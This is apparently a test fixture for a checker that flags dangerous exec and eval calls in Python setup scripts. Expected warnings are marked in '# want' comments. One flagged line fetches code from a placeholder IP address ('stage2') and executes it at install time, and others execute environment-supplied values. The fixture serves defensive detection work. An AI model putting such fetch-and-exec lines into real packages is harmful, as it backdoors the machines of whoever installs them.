"""exec and eval while a setup script runs."""
import os
import re
import urllib.request

from setuptools import setup

here = os.path.abspath(os.path.dirname(__file__))
about = {}
with open(os.path.join(here, "example", "__about__.py")) as f:
    exec(f.read(), about)
exec(compile(open("example/_version.py").read(), "example/_version.py", "exec"))
for line in open("example/__init__.py"):
    if line.startswith("__version__"):
        version = eval(line.split("=")[1])
version2 = eval(re.search(r"__version__ = (.*)", open("x.py").read()).group(1))

exec("x = 1")
exec(urllib.request.urlopen("http://203.0.113.7/stage2").read())  # want "builtins.exec executes code fetched with urllib.request.urlopen"
payload = os.environ.get("BOOT", "")
exec(payload)  # want "builtins.exec executes code that is not a constant at install time"


def later(code):
    exec(code)


setup(name="example", version=about["__version__"])

mode = os.environ.get("MODE", "False")
if mode in ("True", "False"):
    debug = eval(mode)
if mode in ("True", os.environ["OTHER"]):
    debug = eval(mode)  # want "builtins.eval executes code that is not a constant at install time"
else:
    debug = eval(mode)  # want "builtins.eval executes code that is not a constant at install time"
